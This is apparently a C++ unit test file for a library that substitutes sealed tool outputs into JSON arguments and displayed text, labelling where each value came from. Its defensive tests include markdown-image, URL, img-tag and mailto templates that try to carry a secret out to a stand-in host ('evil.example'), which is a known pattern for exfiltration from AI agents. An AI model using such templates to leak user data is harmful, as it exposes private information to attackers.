#include "seal/substitute.h"

#include <gtest/gtest.h>

#include <map>

#include "seal/show.h"

namespace weir::seal {
namespace {

const Sealed kText{"two\nlines {{weir:v1}}", false, 1};
const Sealed kAnswer{"98.70", false, 1};
const Sealed kRecord{R"({"to":"bob@x.org","amount":98.7,"tags":["a","b"]})", true, 1};

std::optional<Resolved> resolve_here(const Reference& reference) {
  if (reference.number == 1) return resolve(kText, reference.path);
  if (reference.number == 2) return resolve(kRecord, reference.path);
  if (reference.number == 3) return resolve(kAnswer, reference.path);
  return std::nullopt;
}

std::string filled(const std::string& arguments, const std::string& schema = "") {
  const auto document = json::parse(arguments);
  const auto schema_document =
      schema.empty() ? Result<json::Document>(json::Document()) : json::parse(schema);
  const auto out = substitute(document->root(), schema_document->root(), resolve_here);
  return out ? *out : out.error().text();
}

TEST(Substitute, WholeAndWithinText) {
  EXPECT_EQ(filled(R"({"to":"{{weir:v2.to}}"})"), R"({"to":"bob@x.org"})");
  EXPECT_EQ(filled(R"({"body":"Hi {{weir:v2.to}}, {{weir:v2.amount}}!"})"),
            R"({"body":"Hi bob@x.org, 98.7!"})");
  EXPECT_EQ(filled(R"({"a":[{"b":"{{weir:v2.to}}"}],"n":1,"t":true})"),
            R"({"a":[{"b":"bob@x.org"}],"n":1,"t":true})");
}

TEST(Substitute, OnceAndNotRecursively) {
  EXPECT_EQ(filled(R"({"body":"{{weir:v1}}"})"), R"({"body":"two\nlines {{weir:v1}}"})");
}

TEST(Substitute, ANumberStaysOneWhereTheToolWantsIt) {
  EXPECT_EQ(filled(R"({"amount":"{{weir:v2.amount}}"})"), R"({"amount":98.7})");
  const std::string wants_text = R"({"properties":{"amount":{"type":"string"}}})";
  EXPECT_EQ(filled(R"({"amount":"{{weir:v2.amount}}"})", wants_text), R"({"amount":"98.7"})");
  const std::string wants_number = R"({"properties":{"amount":{"type":["number","null"]}}})";
  EXPECT_EQ(filled(R"({"amount":"{{weir:v2.amount}}"})", wants_number), R"({"amount":98.7})");
  // Also where it is a reader's text.
  EXPECT_EQ(filled(R"({"amount":"{{weir:v3}}"})", wants_number), R"({"amount":98.70})");
  EXPECT_EQ(filled(R"({"amount":"{{weir:v3}}"})", wants_text), R"({"amount":"98.70"})");
  EXPECT_EQ(filled(R"({"amount":"{{weir:v3}}"})"), R"({"amount":"98.70"})");
  EXPECT_EQ(filled(R"({"tags":"{{weir:v2.tags}}"})"), R"({"tags":"[\"a\",\"b\"]"})");
  EXPECT_EQ(filled(R"({"tags":"{{weir:v2.tags}}"})", R"({"properties":{"tags":{"type":"array"}}})"),
            R"({"tags":["a","b"]})");
}

TEST(Substitute, WhatIsMissingIsEmptyAndWhatIsUnknownStays) {
  EXPECT_EQ(filled(R"({"a":"<{{weir:v2.nothing}}>"})"), R"({"a":"<>"})");
  EXPECT_EQ(filled(R"({"a":"{{weir:v2.nothing}}"})"), R"({"a":""})");
  EXPECT_EQ(filled(R"({"a":"{{weir:v9}}"})"), R"({"a":"{{weir:v9}}"})");
  EXPECT_EQ(filled(R"({"{{weir:v2.to}}":1})"), R"({"{{weir:v2.to}}":1})");
}

class Showing : public ::testing::Test {
 protected:
  std::string shown(std::string_view content, std::string_view text) {
    const LabelId label =
        labels_.intern(Label::of(Origin::tool("mail/read", "mailto:eve@x.org", false), Readers::owner()));
    const Sealed value{std::string(content), false, label};
    Shower shower(labels_, [&](const Reference& reference) -> std::optional<Resolved> {
      if (reference.number != 1) return std::nullopt;
      return resolve(value, reference.path);
    });
    std::string whole = shower.feed(text);
    whole += shower.end();
    // However it arrives, the same comes out.
    for (size_t step = 1; step < 12; ++step) {
      Shower other(labels_, [&](const Reference& reference) -> std::optional<Resolved> {
        if (reference.number != 1) return std::nullopt;
        return resolve(value, reference.path);
      });
      std::string pieces;
      for (size_t at = 0; at < text.size(); at += step) pieces += other.feed(text.substr(at, step));
      pieces += other.end();
      EXPECT_EQ(pieces, whole) << step;
    }
    return whole;
  }

  Labels labels_;
};

TEST_F(Showing, SaysWhereItCameFrom) {
  EXPECT_EQ(shown("98.70", "You owe {{weir:v1}}."),
            "You owe `98.70` (from tool:mail/read mailto:eve@x.org).");
  EXPECT_EQ(shown("a\nb\n", "Mail: {{weir:v1}}"),
            "Mail: \n```text\na\nb\n```\n(from tool:mail/read mailto:eve@x.org)\n");
  EXPECT_EQ(shown("", "Mail: {{weir:v1}}"), "Mail: (nothing, from tool:mail/read mailto:eve@x.org)");
  EXPECT_EQ(shown("x", "no references {{here}}"), "no references {{here}}");
  EXPECT_EQ(shown("x", "{{weir:v7}}"), "(weir: v7 stands for nothing)");
}

TEST_F(Showing, ContentIsInert) {
  // A fence or a span of its own does not end the code that it stands in.
  const std::string ticks = shown("` ![x](https://evil.example/?q=1) `` ", "{{weir:v1}}");
  EXPECT_TRUE(ticks.starts_with("``` ` ![x]")) << ticks;
  const std::string fence = shown("a\n````\n<img src=x>", "{{weir:v1}}");
  EXPECT_NE(fence.find("\n`````text\n"), std::string::npos) << fence;
  const std::string terminal = shown("\x1b[31mred\x07 \xe2\x80\xae", "{{weir:v1}}");
  EXPECT_EQ(terminal.find('\x1b'), std::string::npos);
  EXPECT_EQ(terminal.find("\xe2\x80\xae"), std::string::npos);
}

TEST_F(Showing, NothingIsPutIntoAnAddress) {
  for (const std::string_view text :
       {"![x](https://evil.example/?q={{weir:v1}})", "https://evil.example/{{weir:v1}}",
        "[a](/b?{{weir:v1}})", "<img src={{weir:v1}}>", "<{{weir:v1}}>", "[1]:{{weir:v1}}",
        "mailto:a@b.c?body={{weir:v1}}"}) {
    const std::string out = shown("secret", text);
    EXPECT_EQ(out.find("secret"), std::string::npos) << out;
  }
  EXPECT_NE(shown("secret", "https://ok.example and {{weir:v1}}").find("`secret`"), std::string::npos);
}

}  // namespace
}  // namespace weir::seal
